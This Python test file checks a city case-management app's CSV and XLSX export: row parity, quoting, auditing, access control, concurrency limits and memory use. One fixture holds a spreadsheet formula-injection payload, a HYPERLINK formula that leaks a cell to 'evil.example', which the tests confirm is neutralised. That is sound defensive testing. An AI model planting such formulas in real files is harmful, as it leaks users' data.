"""Issue 11, acceptance 3: an export's rows equal the table's rows for the same filter (count and
values), it opens as UTF-8 in a CSV reader and as a workbook, it is audited with its row count
(also when the client leaves mid-way), and only those who may read the area get it."""

from __future__ import annotations

import csv
import http.client
import io
import random
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from itertools import islice
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, unquote, urlsplit

import anyio
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, insert, select
from sqlalchemy.orm import Session, sessionmaker

from app import create_app
from data_sources import db
from data_sources.access import displays
from data_sources.access.keys import add_key
from data_sources.cases import export_stream, filters
from data_sources.cases.filters import CaseFilter
from data_sources.cases.query import CaseListItem, Sort, case_count, iter_cases
from data_sources.directory import load_directory
from data_sources.events import EventAdapter
from data_sources.model import Satisfaction
from data_sources.projector import project
from data_sources.schema import AuditRow, CaseRow, NodeRow
from data_sources.seed.city import seed_city
from data_sources.settings import Settings
from data_sources.workhours import CN_CALENDAR
from layouts.i18n import t

from .browser import Server
from .conftest import (
    AS_OF,
    BACKENDS,
    CITY,
    TZ,
    add_account,
    area,
    fresh_database_url,
    sign_in,
)

DISTRICT = "530126"  # 石林
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
QUOTED = '他说"好的", 然后走了'
#: Filters of the table (as its URL holds them) that the tests export.
FILTERS = [
    "",
    "category=noise,sanitation,illegal_parking&status=closed,dispatched&sort=-due_at",
    "period=7d&sort=closed_at&follow=reworked",
    "q=路&sort=id",
]
SATISFACTION = {
    Satisfaction.SATISFIED: ("满意", "Satisfied"),
    Satisfaction.BASICALLY_SATISFIED: ("基本满意", "Basically satisfied"),
    Satisfaction.DISSATISFIED: ("不满意", "Dissatisfied"),
}


@dataclass
class City:
    url: str
    engine: Engine
    street_a: str
    street_b: str
    #: An enrolled display of the district (an operator's: it may act, and still not export).
    display_token: str


@pytest.fixture(scope="module", params=BACKENDS)
def city(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[City]:
    """Shilin with two weeks of cases, plus two whose titles a spreadsheet could misread."""
    url = fresh_database_url(request, tmp_path_factory.mktemp("export"))
    engine = db.make_engine(url)
    db.upgrade(engine)
    seed_city(
        engine, seed=11, as_of=AS_OF, tz=TZ, districts=[DISTRICT], days=14, cases_per_day=5000
    )
    with Session(engine) as session:
        directory = load_directory(session=session)
        streets = session.scalars(
            select(NodeRow.code).where(NodeRow.level == "street").order_by(NodeRow.code)
        ).all()
        building = session.scalars(
            select(NodeRow.code)
            .where(NodeRow.level == "building", NodeRow.code.startswith(streets[0]))
            .order_by(NodeRow.code)
        ).first()
    assert building is not None
    events = [
        EventAdapter.validate_python(
            {
                "id": f"export-{n}",
                "kind": "case.reported",
                "ts": (AS_OF - timedelta(hours=n + 1)).replace(tzinfo=UTC).isoformat(),
                "node": building,
                "path": directory.nodes[building].path,
                "payload": {
                    "case_id": f"export-{n}",
                    "channel": "hotline_12345",
                    "category": "noise",
                    "title": title,
                    "lon": 103.3,
                    "lat": 24.8,
                    "reporter": "市民",
                },
            }
        )
        for n, title in enumerate([FORMULA, QUOTED])
    ]
    with Session(engine) as session, session.begin():
        project(session, events, directory=directory, tz=TZ, calendar=CN_CALENDAR)
    add_account(url, "leader-d", "leader", DISTRICT)
    add_account(url, "leader-a", "leader", streets[0])
    add_account(url, "operator-d", "operator", DISTRICT)
    add_account(url, "admin-c", "admin", CITY)
    with Session(engine) as session, session.begin():
        display = displays.add_display(
            session=session, name="wall-d", scope_code=DISTRICT, operator=True, now=AS_OF
        )
    try:
        yield City(url, engine, streets[0], streets[1], display)
    finally:
        engine.dispose()


@pytest.fixture(scope="module")
def server(city: City) -> Iterator[TestClient]:
    """The app, started (login required, the clock at the seed's end); this client is nobody."""
    app = create_app(Settings(database_url=city.url, anonymous_scope=None, simulate=False))
    app.state.services.clock = lambda: AS_OF
    with TestClient(app) as client:
        yield client


def as_user(server: TestClient, who: str) -> TestClient:
    client = TestClient(server.app)
    sign_in(client, who)
    return client


def table_rows(city: City, query: str, scope: str = DISTRICT) -> list[CaseListItem]:
    """The case table's rows for `query`, as the table reads them (every page)."""
    parsed = parse_qs(query)
    with Session(city.engine) as session:
        scoped = area(session, scope)
    filt = CaseFilter.from_query(parsed)
    sort = Sort.from_query(parsed.get("sort", [""])[0])
    return list(
        iter_cases(
            session_factory=sessionmaker(city.engine),
            scope=scoped,
            filt=filt,
            now=AS_OF,
            tz=TZ,
            sort=sort,
            chunk=500,
        )
    )


def shown(item: CaseListItem, lang: str) -> list[str]:
    """A row as people read it, written here from the table's labels (`layouts.i18n`)."""

    def when(at: datetime | None) -> str:
        return "" if at is None else f"{at.replace(tzinfo=UTC).astimezone(TZ):%Y-%m-%d %H:%M}"

    yes_no = ("是", "否") if lang == "zh" else ("yes", "no")
    title = "'" + item.title if item.title[:1] in "=+-@" else item.title
    return [
        item.id,
        title,
        t(f"cat_{item.category.value}", lang),
        t(f"channel_{item.channel.value}", lang),
        t(f"status_{item.status.value}", lang),
        when(item.reported_at),
        when(item.due_at),
        when(item.closed_at),
        item.place_en if lang == "en" else item.place_zh,
        item.worker or "",
        *(yes_no[0 if flag else 1] for flag in (item.overdue, item.supervised, item.deferred)),
        str(item.rework_count),
        "" if item.satisfaction is None else SATISFACTION[item.satisfaction][lang == "en"],
    ]


def parse_csv(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("query", FILTERS)
def test_the_csv_holds_the_tables_rows_for_the_same_filter(
    server: TestClient, city: City, query: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("data_sources.cases.export_stream.EXPORT_PAGE", 97)  # many keyset pages
    answer = as_user(server, "leader-d").get(f"/api/v1/export/cases.csv?{query}")
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    header, *rows = parse_csv(answer.content)
    assert header[:10] == [
        t(key, "zh")
        for key in (
            "col_case_id",
            "col_title",
            "col_category",
            "col_channel",
            "col_status",
            "col_reported_at",
            "col_due_at",
            "col_closed_at",
            "col_place",
            "col_worker",
        )
    ]
    expected = table_rows(city, query)
    assert len(rows) == len(expected) > 0
    assert rows == [shown(item, "zh") for item in expected]
    with Session(city.engine) as session:
        count = case_count(
            session=session,
            scope=area(session, DISTRICT),
            filt=CaseFilter.from_query(parse_qs(query)),
            now=AS_OF,
            tz=TZ,
        )
    assert count == len(rows)


def test_english_headers_labels_and_a_defused_formula(server: TestClient, city: City) -> None:
    answer = as_user(server, "leader-d").get("/api/v1/export/cases.csv?lang=en&q=export-")
    header, *rows = parse_csv(answer.content)
    assert header[:3] == ["Case no.", "Title", "Category"]
    assert rows == [shown(item, "en") for item in table_rows(city, "q=export-")]
    titles = {row[0]: row[1] for row in rows}
    assert titles == {"export-0": "'" + FORMULA, "export-1": QUOTED}
    # RFC 4180: the quotes doubled inside a quoted field, CRLF at each line's end.
    assert '"他说""好的"", 然后走了"' in answer.content.decode("utf-8-sig")
    assert answer.content.count(b"\r\n") == 3


def test_the_file_is_named_for_its_area_and_day(server: TestClient) -> None:
    answer = as_user(server, "leader-d").get("/api/v1/export/cases.xlsx?lang=zh")
    disposition = answer.headers["content-disposition"]
    match = re.fullmatch(r'attachment; filename="([^"]+)"; filename\*=UTF-8\'\'(\S+)', disposition)
    assert match is not None, disposition
    assert match[1] == "cases_530126_2026-11-23.xlsx"
    assert unquote(match[2]) == "案件_石林彝族自治县_2026-11-23.xlsx"
    assert answer.headers["cache-control"] == "no-store"


def sheet_rows(body: bytes) -> tuple[str, list[str]]:
    """The first sheet's XML and its rows' XML."""
    with zipfile.ZipFile(io.BytesIO(body)) as workbook:
        assert workbook.testzip() is None
        names = workbook.namelist()
        assert "xl/worksheets/sheet1.xml" in names and "xl/worksheets/sheet2.xml" not in names
        sheet = workbook.read("xl/worksheets/sheet1.xml").decode()
    return sheet, re.findall(r"<row [^>]*>.*?</row>", sheet)


def test_the_xlsx_holds_the_same_rows_text_stays_text(server: TestClient, city: City) -> None:
    query = FILTERS[1]
    answer = as_user(server, "leader-d").get(f"/api/v1/export/cases.xlsx?{query}")
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet, rows = sheet_rows(answer.content)
    expected = table_rows(city, query)
    assert len(rows) == len(expected) + 1  # and the header row
    ids = [re.search(r"<t>([^<]*)</t>", row) for row in rows[1:]]
    assert [m[1] if m else None for m in ids] == [item.id for item in expected]
    assert '<pane xSplit="1" ySplit="1"' in sheet and "<cols>" in sheet  # frozen, with widths
    assert "<f>" not in sheet  # no formulas at all
    injected = as_user(server, "leader-d").get("/api/v1/export/cases.xlsx?q=export-0")
    sheet, rows = sheet_rows(injected.content)
    assert len(rows) == 2 and "<f>" not in sheet
    assert 't="inlineStr"><is><t>=HYPERLINK(' in sheet.replace("&quot;", '"')


def audits(city: City) -> list[AuditRow]:
    with Session(city.engine) as session:
        return list(
            session.scalars(
                select(AuditRow).where(AuditRow.action == "export.cases").order_by(AuditRow.id)
            )
        )


def test_an_export_is_audited_with_who_what_and_how_many_rows(
    server: TestClient, city: City
) -> None:
    before = len(audits(city))
    query = "category=noise&status=closed&sort=-reported_at&lang=en"
    answer = as_user(server, "leader-d").get(f"/api/v1/export/cases.csv?{query}")
    line = audits(city)[before]
    assert (line.actor, line.actor_kind, line.outcome, line.scope_code, line.target) == (
        "leader-d",
        "user",
        "ok",
        DISTRICT,
        "cases.csv",
    )
    rows = len(parse_csv(answer.content)) - 1
    assert line.detail is not None and f'"rows":{rows}' in line.detail
    assert '"filter":{"category":"noise","status":"closed"}' in line.detail
    assert '"sort":"-reported_at"' in line.detail and '"format":"csv"' in line.detail


async def _read_until(
    app: Any,
    path: str,
    cookie: str,
    stop_after: int | None,
    pause: tuple[anyio.Event, anyio.Event] | None = None,
) -> tuple[int, int]:
    """Drive the app as uvicorn does (ASGI 2.3): read the answer's body, and after `stop_after`
    chunks say the client hung up (`http.disconnect`). (status, body chunks read). With
    `pause` (reached, go): after those chunks, set `reached` and read nothing until `go`."""
    hung_up = anyio.Event()
    asked = False
    status, chunks = 0, 0

    async def receive() -> dict[str, Any]:
        nonlocal asked
        if not asked:
            asked = True
            return {"type": "http.request", "body": b"", "more_body": False}
        await hung_up.wait()
        return {"type": "http.disconnect"}

    async def send(message: dict[str, Any]) -> None:
        nonlocal status, chunks
        if message["type"] == "http.response.start":
            status = message["status"]
        elif message["type"] == "http.response.body" and message.get("body"):
            chunks += 1
            if stop_after is not None and chunks >= stop_after and not hung_up.is_set():
                if pause is not None:
                    pause[0].set()
                    await pause[1].wait()
                hung_up.set()

    await app(_http_scope(path, cookie), receive, send)
    return status, chunks


def _http_scope(target: str, cookie: str) -> dict[str, Any]:
    """A GET of `target` (path and query) as uvicorn hands it to the app (ASGI 2.3)."""
    path, _, query = target.partition("?")
    return {
        "type": "http",
        "asgi": {"version": "3.0", "spec_version": "2.3"},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "query_string": query.encode(),
        "root_path": "",
        "headers": [(b"host", b"testserver"), (b"cookie", cookie.encode())],
        "client": ("127.0.0.1", 50000),
        "server": ("testserver", 80),
        "state": {},
    }


def test_a_client_leaving_mid_way_is_audited_as_aborted(server: TestClient, city: City) -> None:
    leader = as_user(server, "leader-d")
    cookie = f"gridcc_session={leader.cookies['gridcc_session']}"
    before = len(audits(city))
    assert server.portal is not None
    status, chunks = server.portal.call(
        _read_until, server.app, "/api/v1/export/cases.csv?sort=id", cookie, 2
    )
    assert (status, chunks) == (200, 2)
    line = audits(city)[before]
    assert line.outcome == "aborted" and line.actor == "leader-d"
    assert line.detail is not None
    sent = int(re.search(r'"rows":(\d+)', line.detail)[1])  # type: ignore[index]
    assert 0 < sent < len(table_rows(city, "sort=id"))
    # Read to the end, the same request is "ok".
    assert (
        server.portal.call(_read_until, server.app, "/api/v1/export/cases.csv", cookie, None)[0]
        == 200
    )
    assert audits(city)[-1].outcome == "ok"


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("period=year", "period"),
        ("category=noise,bogus", "category"),
        ("status=open", "status"),
        ("sort=title", "sort"),
        ("lang=fr", "lang"),
        ("period=custom&from=2026-11-01", "to"),
        ("overdue=yes", "overdue"),
        ("q=" + "x" * 65, "q"),
    ],
)
def test_a_bad_filter_is_a_400_naming_its_field(server: TestClient, query: str, field: str) -> None:
    answer = as_user(server, "leader-d").get(f"/api/v1/export/cases.csv?{query}")
    assert answer.status_code == 400
    [problem] = answer.json()["detail"]
    assert problem["loc"] == ["query", field] and problem["msg"]


def test_only_those_who_may_read_the_area_get_its_export(server: TestClient, city: City) -> None:
    before = len(audits(city))
    assert server.get("/api/v1/export/cases.csv").status_code == 401  # nobody signed in
    assert server.get("/api/v1/export/cases.csv").json() == {"detail": "sign in first"}
    leader_a = as_user(server, "leader-a")
    assert leader_a.get(f"/api/v1/export/cases.csv?scope={city.street_b}").status_code == 403
    assert leader_a.get(f"/api/v1/export/cases.xlsx?scope={DISTRICT}").status_code == 403
    assert leader_a.get("/api/v1/export/cases.csv?scope=530126999").status_code == 404
    assert leader_a.post("/api/v1/export/cases.csv").status_code == 405
    assert len(audits(city)) == before  # refused reads write nothing
    # Without a scope: the leader's own street, and nothing of another.
    own = parse_csv(leader_a.get("/api/v1/export/cases.csv").content)[1:]
    assert [row[0] for row in own] == [i.id for i in table_rows(city, "", city.street_a)]
    assert len(own) < len(table_rows(city, ""))


def test_an_admin_key_exports_and_a_head_exports_nothing(server: TestClient, city: City) -> None:
    with Session(city.engine) as session, session.begin():
        key = add_key(session=session, source="bi-tool", role="admin", now=AS_OF, created_by="t")
        ingest = add_key(session=session, source="feed", role="ingest", now=AS_OF, created_by="t")
    before = len(audits(city))
    assert server.head("/api/v1/export/cases.csv", headers={"X-API-Key": key}).status_code == 200
    assert len(audits(city)) == before  # a HEAD sends no rows: nothing to audit
    answer = server.get(f"/api/v1/export/cases.csv?scope={DISTRICT}", headers={"X-API-Key": key})
    assert len(parse_csv(answer.content)) - 1 == len(table_rows(city, ""))
    line = audits(city)[-1]
    assert (line.actor, line.actor_kind, line.outcome) == ("bi-tool", "key", "ok")
    refused = server.get("/api/v1/export/cases.csv", headers={"X-API-Key": ingest})
    assert refused.status_code == 403


# ---------------------------------------------------------------- limits, and who may export


def cookie_of(client: TestClient) -> str:
    return f"gridcc_session={client.cookies['gridcc_session']}"


class Held:
    """An export through raw ASGI whose client reads one chunk and then nothing until `leave`
    (at the latest when the `with` block ends): it runs, holding its slot, until then."""

    def __init__(
        self, server: TestClient, who: str, path: str = "/api/v1/export/cases.csv"
    ) -> None:
        assert server.portal is not None
        self.server, self.portal, self.who, self.path = server, server.portal, who, path

    def __enter__(self) -> Held:
        self.reached = self.portal.call(anyio.Event)
        self.go = self.portal.call(anyio.Event)
        cookie = cookie_of(as_user(self.server, self.who))
        self.done = self.portal.start_task_soon(
            _read_until, self.server.app, self.path, cookie, 1, (self.reached, self.go)
        )
        self.portal.call(self._started)
        return self

    async def _started(self) -> None:
        with anyio.fail_after(30):
            await self.reached.wait()  # its first chunk is out: it runs

    def leave(self) -> tuple[int, int]:
        """(its status, the chunks it read); once it has left, the same again."""
        self.portal.call(self.go.set)
        return self.done.result(timeout=30)

    def __exit__(self, *_exc: object) -> None:
        self.leave()


def busy(answer: Any, reason: str) -> bool:
    """A 429 saying when to come back and why."""
    body = answer.json()
    return (
        answer.status_code == 429
        and answer.headers["retry-after"] == str(export_stream.RETRY_AFTER_S)
        and reason in body["detail"]
        and body["retry_after_s"] == export_stream.RETRY_AFTER_S
    )


def test_one_export_at_a_time_per_reader_and_two_in_all_refused_before_any_query(
    server: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert export_stream.EXPORTS_PER_PROCESS == 2 and export_stream.EXPORTS_PER_PRINCIPAL == 1
    started: list[str] = []
    real_iter, real_count = export_stream.iter_cases, export_stream.case_count
    monkeypatch.setattr(
        export_stream, "iter_cases", lambda **kw: started.append("rows") or real_iter(**kw)
    )
    monkeypatch.setattr(
        export_stream, "case_count", lambda **kw: started.append("count") or real_count(**kw)
    )
    leader_d, leader_a, operator = (
        as_user(server, w) for w in ("leader-d", "leader-a", "operator-d")
    )
    mine = "an export of yours is still running"
    with Held(server, "leader-a", "/api/v1/export/alarms.csv") as other:
        with Held(server, "leader-d") as first:
            before = list(started)
            # The same reader (another session too), any table and format: refused, unqueried.
            for path in ("cases.xlsx", "cases.csv", "alarms.csv", "workers.xlsx"):
                assert busy(leader_d.get(f"/api/v1/export/{path}"), mine)
            assert started == before
            # Two readers' exports run side by side; a third's is one too many.
            assert busy(leader_a.get("/api/v1/export/cases.csv"), mine)
            assert busy(operator.get("/api/v1/export/cases.xlsx"), "2 exports are running")
            # The case API has no such limit (it reads one case).
            assert leader_d.get("/api/v1/cases/export-0").status_code == 200
            # A client that leaves gives its slot back: the same reader exports again.
            assert first.leave() == (200, 1)
        assert leader_d.get("/api/v1/export/cases.xlsx?q=export-").status_code == 200
        assert operator.get("/api/v1/export/workers.csv").status_code == 200
        assert other.leave() == (200, 1)
    # One read to its end gives it back as well (see also the test below).
    answers = [leader_d.get("/api/v1/export/cases.csv?q=export-").status_code for _ in "12"]
    assert answers == [200, 200]


async def _again_at_the_end(app: Any, path: str, cookie: str) -> tuple[int, int]:
    """An export read to its end where, as its last message arrives (before the client could
    ask again), the same reader asks for another: (the first's status, the second's)."""
    statuses = [0, 0]
    asked, never = False, anyio.Event()

    async def receive() -> dict[str, Any]:
        nonlocal asked
        if not asked:
            asked = True
            return {"type": "http.request", "body": b"", "more_body": False}
        await never.wait()  # the client stays
        raise AssertionError("unreachable")

    async def send(message: dict[str, Any]) -> None:
        if message["type"] == "http.response.start":
            statuses[0] = message["status"]
        elif message["type"] == "http.response.body" and not message.get("more_body"):
            statuses[1] = (await _read_until(app, path, cookie, None))[0]

    await app(_http_scope(path, cookie), receive, send)
    return statuses[0], statuses[1]


def test_an_export_read_to_its_end_frees_its_slot_before_the_end_is_seen(
    server: TestClient,
) -> None:
    cookie = cookie_of(as_user(server, "leader-d"))
    assert server.portal is not None
    path = "/api/v1/export/cases.csv?q=export-"
    assert server.portal.call(_again_at_the_end, server.app, path, cookie) == (200, 200)


def test_an_export_that_fails_gives_its_slot_back(
    server: TestClient, city: City, monkeypatch: pytest.MonkeyPatch
) -> None:
    leader = TestClient(server.app, raise_server_exceptions=False)
    sign_in(leader, "leader-d")

    def broken(**kw: Any) -> Iterator[CaseListItem]:
        yield from islice(iter_cases(**kw), 600)  # past the header and the first chunk
        raise RuntimeError("the database went away")

    monkeypatch.setattr(export_stream, "iter_cases", broken)
    before = len(audits(city))
    answer = leader.get("/api/v1/export/cases.csv?sort=id")
    assert answer.status_code == 200  # the error came after the first byte: the file stops
    assert audits(city)[before].outcome == "failed"
    monkeypatch.undo()

    def no_count(**_kw: Any) -> int:
        raise RuntimeError("the count failed")

    monkeypatch.setattr(export_stream, "case_count", no_count)  # before the first byte: a 500
    assert leader.get("/api/v1/export/cases.xlsx").status_code == 500
    monkeypatch.undo()
    assert leader.get("/api/v1/export/cases.csv?q=export-").status_code == 200


def test_an_xlsx_over_its_row_cap_is_refused_with_its_count_and_a_csv_is_not(
    server: TestClient, city: City, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert export_stream.XLSX_MAX_ROWS == 200_000
    rows = len(table_rows(city, FILTERS[1]))
    leader = as_user(server, "leader-d")
    monkeypatch.setattr(export_stream, "XLSX_MAX_ROWS", rows - 1)
    before = len(audits(city))
    refused = leader.get(f"/api/v1/export/cases.xlsx?{FILTERS[1]}")
    assert refused.status_code == 413, refused.text
    body = refused.json()
    assert (body["rows"], body["limit"]) == (rows, rows - 1)
    assert f"{rows:,} rows" in body["detail"] and "CSV" in body["detail"]
    assert len(audits(city)) == before  # refused before anything was exported
    csv_rows = parse_csv(leader.get(f"/api/v1/export/cases.csv?{FILTERS[1]}").content)[1:]
    assert len(csv_rows) == rows  # a CSV streams: no cap
    monkeypatch.setattr(export_stream, "XLSX_MAX_ROWS", rows)  # at the cap: exported
    assert leader.get(f"/api/v1/export/cases.xlsx?{FILTERS[1]}").status_code == 200
    # The alarm history and the worker list are counted as well.
    monkeypatch.setattr(export_stream, "XLSX_MAX_ROWS", 0)
    for table in ("alarms", "workers"):
        listed = len(parse_csv(leader.get(f"/api/v1/export/{table}.csv").content)) - 1
        answer = leader.get(f"/api/v1/export/{table}.xlsx")
        assert listed > 0 and (answer.status_code, answer.json()["rows"]) == (413, listed)


@pytest.mark.parametrize("path", ["cases.csv", "cases.xlsx", "alarms.csv", "workers.xlsx"])
@pytest.mark.parametrize("dates", [("0001-01-01", "0001-01-02"), ("9999-12-30", "9999-12-31")])
@pytest.mark.parametrize("bounded", [True, False], ids=["bounded", "unbounded"])
def test_dates_at_the_calendars_ends_are_a_400_not_a_broken_file(
    server: TestClient,
    path: str,
    dates: tuple[str, str],
    bounded: bool,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The filter takes dates of 2000..2100 only; were it to take any, the route would still
    compute the range before the 200 (where the window overflowed once the file had begun)."""
    if not bounded:
        monkeypatch.setattr(filters, "FIRST_DAY", date.min)
        monkeypatch.setattr(filters, "LAST_DAY", date.max)
    query = f"period=custom&from={dates[0]}&to={dates[1]}"
    answer = as_user(server, "leader-d").get(f"/api/v1/export/{path}?{query}")
    assert answer.status_code == 400, answer.text
    [problem] = answer.json()["detail"]
    assert problem["loc"] in (["query", "from"], ["query", "to"]) and problem["msg"]


@pytest.mark.parametrize("who", ["leader-d", "operator-d", "admin-c"])
def test_signed_in_users_of_every_role_export(server: TestClient, who: str) -> None:
    scope = f"?scope={DISTRICT}&q=export-"
    client = as_user(server, who)
    for path in ("cases.csv", "cases.xlsx", "alarms.csv", "workers.csv"):
        assert client.get(f"/api/v1/export/{path}{scope}").status_code == 200


def refused_export(client: TestClient) -> bool:
    answers = [
        client.get(f"/api/v1/export/{p}") for p in ("cases.csv", "alarms.xlsx", "workers.csv")
    ]
    return all(
        (a.status_code, a.json()) == (403, {"detail": "exports need a signed-in account"})
        for a in answers
    )


def test_a_display_reads_cases_but_exports_nothing(server: TestClient, city: City) -> None:
    display = TestClient(server.app)
    assert display.get(f"/display/{city.display_token}", follow_redirects=False).status_code == 303
    assert display.get("/api/v1/cases/export-0").status_code == 200
    assert refused_export(display)


def test_an_anonymous_visitor_reads_cases_but_exports_nothing(city: City) -> None:
    app = create_app(Settings(database_url=city.url, anonymous_scope=DISTRICT, simulate=False))
    app.state.services.clock = lambda: AS_OF
    with TestClient(app) as anonymous:
        assert anonymous.get("/api/v1/cases/export-0").status_code == 200
        assert refused_export(anonymous)


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({"Sec-Fetch-Site": "cross-site"}, 403),
        ({"Sec-Fetch-Site": "same-site"}, 403),  # a sibling host is another origin
        ({"Origin": "http://evil.example"}, 403),
        ({"Sec-Fetch-Site": "same-origin"}, 200),  # a link or a fetch of the app's own page
        ({"Sec-Fetch-Site": "none"}, 200),  # typed in, a bookmark
        ({"Sec-Fetch-Site": "same-origin", "Origin": "http://testserver"}, 200),
        ({}, 200),  # a script
    ],
)
def test_reads_asked_from_another_site_are_refused(
    server: TestClient, headers: dict[str, str], status: int
) -> None:
    key = server.app.state.services.keys.add("bi", "admin", "t")  # type: ignore[attr-defined]
    leader = as_user(server, "leader-d")
    answers = [
        leader.get("/api/v1/cases/export-0", headers=headers),
        leader.get("/api/v1/export/cases.csv?q=export-", headers=headers),
        leader.get("/api/v1/export/workers.xlsx", headers=headers),
        server.get("/api/v1/cases/export-0", headers={"X-API-Key": key, **headers}),
    ]
    assert [a.status_code for a in answers] == [status] * 4
    if status == 403:
        assert all("may not read this here" in a.json()["detail"] for a in answers)


# ---------------------------------------------------------------- memory stays flat


def add_cases(engine: Engine, first: int, last: int, now: datetime) -> None:
    """Cases `first`..`last - 1` of the district, reported in the 20 days before `now`, written
    straight to the table (the projector is not what is measured here)."""
    with Session(engine) as session:
        buildings = session.execute(
            select(
                NodeRow.id,
                NodeRow.district_id,
                NodeRow.street_id,
                NodeRow.community_id,
                NodeRow.grid_id,
            ).where(NodeRow.level == "building")
        ).all()
    rng = random.Random(first)
    rows = []
    for n in range(first, last):
        place = buildings[n % len(buildings)]
        reported = now - timedelta(seconds=rng.randrange(20 * 86_400))
        rows.append(
            {
                "id": f"bulk-{n:08d}",
                "title": f"第{n}号 小区夜间施工噪音扰民, 请尽快处理",
                "channel": "hotline_12345",
                "category": "noise",
                "status": "dispatched",
                "lon": 103.3,
                "lat": 24.8,
                "reported_at": reported,
                "accepted_at": reported,
                "due_at": reported + timedelta(days=2),
                "deferred": False,
                "supervised": n % 7 == 0,
                "rework_count": n % 3,
                "event_count": 3,
                "building_id": place.id,
                "district_id": place.district_id,
                "street_id": place.street_id,
                "community_id": place.community_id,
                "grid_id": place.grid_id,
            }
        )
        if len(rows) == 20_000 or n == last - 1:
            with engine.begin() as connection:
                connection.execute(insert(CaseRow), rows)
            rows = []


def peak_growth(pid: int, base: str, path: str, key: str) -> tuple[int, int]:
    """Export `path` from the server `pid`, reading it as a client does and keeping none of it;
    (its lines, how far the server's peak RSS rose above its RSS before, in bytes)."""
    status = Path(f"/proc/{pid}/status")

    def kib(field: str) -> int:
        line = next(x for x in status.read_text().splitlines() if x.startswith(field))
        return int(line.split()[1]) * 1024

    Path(f"/proc/{pid}/clear_refs").write_text("5")  # the peak (VmHWM) starts again from now
    before = kib("VmRSS:")
    url = urlsplit(base)
    connection = http.client.HTTPConnection(url.hostname or "", url.port, timeout=120)
    try:
        connection.request("GET", path, headers={"X-API-Key": key})
        response = connection.getresponse()
        assert response.status == 200
        lines = 0
        while block := response.read(65_536):
            lines += block.count(b"\n")
    finally:
        connection.close()
    return lines, kib("VmHWM:") - before


@pytest.mark.slow
def test_the_servers_memory_stays_flat_from_20_thousand_to_200_thousand_rows(
    tmp_path: Path,
) -> None:
    """A real server exports 20,000 cases and then 200,000: its peak memory grows no more for
    ten times the rows (a file built whole would take ~100 MB more; bench/bench_export.py
    goes to 1 M rows, XLSX too)."""
    url = f"sqlite:///{tmp_path / 'bulk.db'}"
    engine = db.make_engine(url)
    db.upgrade(engine)
    seed_city(engine, seed=5, as_of=AS_OF, tz=TZ, districts=[DISTRICT], days=1, cases_per_day=50)
    now = datetime.now(UTC).replace(tzinfo=None)
    add_cases(engine, 0, 20_000, now)
    with Session(engine) as session, session.begin():  # a script's: exports need no display
        key = add_key(session=session, source="bi", role="admin", now=AS_OF, created_by="t")
    path = f"/api/v1/export/cases.csv?scope={DISTRICT}&category=noise&status=dispatched"
    server = Server(url, GRIDCC_SIMULATE="false")
    server.start()
    try:
        assert server.process is not None
        pid = server.process.pid
        peak_growth(pid, server.base, path, key)  # warm: imports, pools, caches
        lines_20k, growth_20k = peak_growth(pid, server.base, path, key)
        add_cases(engine, 20_000, 200_000, now)
        lines_200k, growth_200k = peak_growth(pid, server.base, path, key)
    finally:
        server.stop()
        engine.dispose()
    assert (lines_20k, lines_200k) == (20_001, 200_001)  # and the header
    growths = (
        f"peak RSS growth: 20k rows {growth_20k / 2**20:.1f} MiB, 200k {growth_200k / 2**20:.1f}"
    )
    assert growth_200k < growth_20k + 8 * 2**20, growths
